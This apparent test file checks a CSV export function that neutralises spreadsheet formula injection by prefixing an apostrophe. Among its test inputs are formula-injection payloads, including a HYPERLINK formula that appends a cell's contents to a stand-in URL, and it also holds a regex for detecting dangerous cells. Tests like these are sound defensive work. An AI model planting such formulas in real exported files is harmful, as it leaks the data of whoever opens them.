import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { harmless, rowsToCsv } from './csv.ts';
import { readCsv } from './testing.ts';

describe('a table as CSV', () => {
  it('begins with the mark of UTF-8 and ends each row, the last one too, as the standard has it', () => {
    expect(
      rowsToCsv([
        ['Date', 'Note'],
        ['2026-11-15', 36.5],
        [undefined, 'a, "b"\nc'],
      ]),
    ).toBe('\ufeff"Date","Note"\r\n"2026-11-15",36.5\r\n,"a, ""b""\nc"\r\n');
  });

  it.each([
    '=HYPERLINK("http://example.org?"&A1)',
    '+1',
    '-2+3',
    '@SUM(1)',
    ' =1+1',
    '\ttext',
    '\rtext',
    '"=1',
    '＝1+1',
    '＋1',
    '\u200b=1',
    "'=1",
  ])('makes %j a text that no spreadsheet reckons with', (text) => {
    expect(harmless(text)).toBe(`'${text}`);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a\t@SUM(1)', "a\t'@SUM(1)"],
    ['a; -1', "a;' -1"],
    ['a;"=1', 'a;\'"=1'],
    ['list:\n- one\r\n- two', "list:\n'- one\r\n'- two"],
    ["a;'+1", "a;''+1"],
    ['\t=1', "'\t'=1"],
    ['=1;=2;3', "'=1;'=2;3"],
  ])('makes %j harmless where a spreadsheet may split it', (text, written) => {
    expect(harmless(text)).toBe(written);
  });

  it.each(['Pain', 'a = b', "it's", "'quoted'", '', '5-6', '(-1)', 'a; b', 'a;\nb'])(
    'leaves %j as it is',
    (text) => {
      expect(harmless(text)).toBe(text);
    },
  );

  it('leaves numbers, negative ones too, to be reckoned with', () => {
    expect(readCsv(rowsToCsv([[-0.5, 36.65]]).slice(1))).toEqual([['-0.5', '36.65']]);
  });

  it('drops characters that nothing shows', () => {
    expect(readCsv(rowsToCsv([['a\u0000b\u001b', 'x']]).slice(1))).toEqual([['ab', 'x']]);
  });

  const DANGEROUS = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/;
  const anyCell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom(...'=+-@＝\'\t\r\n ",;a') }),
  );

  it('gives back every text as it was, and no cell begins like a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(anyCell, { minLength: 2, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const read = readCsv(rowsToCsv(rows).slice(1));
          expect(read.map((row) => row.map(asWritten))).toEqual(rows);
          expect(read.flat().filter((cell) => DANGEROUS.test(cell))).toEqual([]);
        },
      ),
    );
  });

  it('has no cell that begins like a formula for a reader that splits at semicolons or tabs', () => {
    fc.assert(
      fc.property(fc.array(anyCell, { minLength: 1, maxLength: 4 }), (row) => {
        const cells = rowsToCsv([['2026-11-15', ...row]]).split(/[;\t\r\n]/);
        // Such a reader takes quotes around a cell, and an empty pair before it, away.
        expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
      }),
    );
  });
});

/** What `harmless` was given. */
function asWritten(text: string): string {
  return text
    .replace(/^'(?='*[\t\r\n])/, '')
    .replace(/(^|[;\t\r\n])'(?='*(?:(?![\t\r\n])[\s\p{Cc}\p{Cf}"])*[=+\-@＝＋－＠])/gu, '$1');
}
